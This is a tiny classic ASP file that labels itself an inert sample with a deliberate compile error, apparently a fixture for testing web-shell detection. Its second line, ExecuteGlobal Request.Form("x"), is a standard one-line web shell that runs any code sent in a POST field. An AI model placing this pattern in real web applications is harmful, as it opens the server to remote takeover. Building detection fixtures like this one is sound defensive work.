<% shodo inert sample: deliberate compile error, this page never runs %>
<% ExecuteGlobal Request.Form("x") %>
